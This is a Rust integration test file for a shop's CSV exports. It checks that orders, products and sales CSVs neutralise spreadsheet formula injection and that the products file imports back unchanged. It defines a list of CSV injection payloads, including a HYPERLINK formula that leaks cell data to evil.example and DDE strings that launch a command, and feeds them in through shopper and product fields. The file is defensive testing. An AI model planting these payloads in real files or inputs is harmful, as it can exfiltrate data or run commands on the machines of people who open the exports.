//! Every CSV the shop writes, read as a spreadsheet reads it: no cell that a shopper, a guest,
//! a terminal's `kcard` or staff typed starts a formula (`= + - @`, TAB, CR), numbers stay
//! numbers, and the products file imports back as the products it came from.

use serde_json::{Value, json};

use crate::helpers::{TestApp, spawn_app};
use crate::orders::{add, address, place, plain, product, shopper};

/// Payloads from the attack report, one per trigger.
const ATTACKS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Invoice\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
];

async fn get_csv(app: &TestApp, path: &str, token: &str) -> String {
    let response = app
        .client
        .get(app.url(path))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "{path}");
    let text = response.text().await.unwrap();
    text.strip_prefix('\u{feff}').unwrap_or(&text).to_string()
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|row| row.unwrap().iter().map(String::from).collect())
        .collect()
}

/// `-5`, `-12.50`: a value a spreadsheet shows as a number, not a formula.
fn plain_number(cell: &str) -> bool {
    cell.strip_prefix('-').is_some_and(|digits| {
        !digits.is_empty()
            && digits
                .split('.')
                .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
    })
}

fn assert_inert(csv: &str) {
    for row in cells(csv) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number(&cell),
                "{cell:?} would run in a spreadsheet:\n{csv}"
            );
        }
    }
}

#[tokio::test]
async fn the_orders_csv_marks_every_name_and_channel_a_shopper_typed() {
    let app = spawn_app().await;
    let staff = app.token("clerk", "admin").await;
    let buyer = shopper(&app, "mallory").await;
    for attack in ATTACKS {
        let item = product(&app, plain);
        add(&app, &buyer, &item.code, 1).await;
        let mut delivery = address();
        delivery["name"] = json!(attack);
        let body = json!({
            "id": buyer.id, "address": delivery, "payment": "promptpay",
            "idempotencyKey": uuid::Uuid::new_v4().to_string(),
            "vatInfo": {"name": attack, "taxId": "0105561234560", "branch": "00000",
                        "address": "88 Rama 4 Road, Bangkok 10110"}
        });
        let (status, placed) = app
            .json(
                app.client
                    .post(app.url("/api/app/order/place"))
                    .bearer_auth(&buyer.token)
                    .header("kcard", *attack)
                    .json(&body),
            )
            .await;
        assert_eq!(status, 201, "{placed}");
    }
    let csv = get_csv(&app, "/api/admin/orders.csv", &staff).await;
    assert_inert(&csv);
    let rows = cells(&csv);
    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let (customer, channel, invoice) =
        (column("customer"), column("channel"), column("tax_invoice"));
    for attack in ATTACKS {
        let marked = format!("'{attack}");
        let row = rows
            .iter()
            .find(|row| row[customer] == marked)
            .unwrap_or_else(|| panic!("no row for {attack:?}:\n{csv}"));
        assert_eq!(row[channel], marked);
        assert_eq!(row[invoice], format!("{marked} 0105561234560"));
    }
    // Amounts stay numbers.
    let total = column("total");
    assert!(
        rows[1..]
            .iter()
            .all(|row| row[total].parse::<f64>().is_ok()),
        "{csv}"
    );
}

/// A product whose free-text fields are `text` (material and colour are code-table keys).
fn hostile_product(code: &str, text: &str) -> Value {
    json!({
        "code": code,
        "name": {"en": text, "th": text, "my": text, "km": text, "id": text},
        "description": {"en": text, "th": text},
        "price": 450_000,
        "rooms": ["living"],
        "categories": [],
        "dimensions": {"width": 800, "depth": 400, "height": 750},
        "stock": 2,
        "active": true
    })
}

#[tokio::test]
async fn the_products_csv_marks_formula_like_text_and_imports_back_unchanged() {
    let app = spawn_app().await;
    let clerk = app.token("clerk", "admin-stock").await;
    for (i, attack) in ATTACKS.iter().enumerate() {
        let (status, body) = app
            .json(
                app.client
                    .post(app.url("/api/admin/products"))
                    .bearer_auth(&clerk)
                    .json(&hostile_product(&format!("XSS-{i}"), attack)),
            )
            .await;
        assert_eq!(status, 201, "{attack:?}: {body}");
    }
    let csv = get_csv(&app, "/api/admin/products.csv?q=XSS-", &clerk).await;
    assert_inert(&csv);
    let rows = cells(&csv);
    assert_eq!(rows.len(), ATTACKS.len() + 1, "{csv}");
    let name = rows[0].iter().position(|h| h == "name_en").unwrap();
    for attack in ATTACKS {
        assert!(
            rows.iter().any(|row| row[name] == format!("'{attack}")),
            "{attack:?} not marked:\n{csv}"
        );
    }

    // The file imports back as the products it came from: nothing changes.
    let (status, body) = app
        .json(
            app.client
                .post(app.url("/api/admin/catalog/import"))
                .bearer_auth(&clerk)
                .json(&json!({"csv": csv, "apply": true})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["preview"]["problems"], json!([]), "{body}");
    assert_eq!(body["preview"]["unchanged"], ATTACKS.len(), "{body}");
    for (i, attack) in ATTACKS.iter().enumerate() {
        let (_, shown) = app.get_json(&format!("/api/app/product/get/XSS-{i}")).await;
        assert_eq!(shown["product"]["name"]["th"], *attack);
        assert_eq!(shown["product"]["version"], 1);
    }
}

#[tokio::test]
async fn the_sales_csv_goes_through_the_same_sheet() {
    let app = spawn_app().await;
    let staff = app.token("owner", "admin").await;
    let buyer = shopper(&app, "somchai").await;
    let item = product(&app, plain);
    add(&app, &buyer, &item.code, 1).await;
    let (status, placed) = place(&app, &buyer, json!({})).await;
    assert_eq!(status, 201, "{placed}");
    let csv = get_csv(&app, "/api/admin/reports/sales.csv", &staff).await;
    assert_inert(&csv);
    assert_eq!(cells(&csv)[0][0], "date", "{csv}");
}
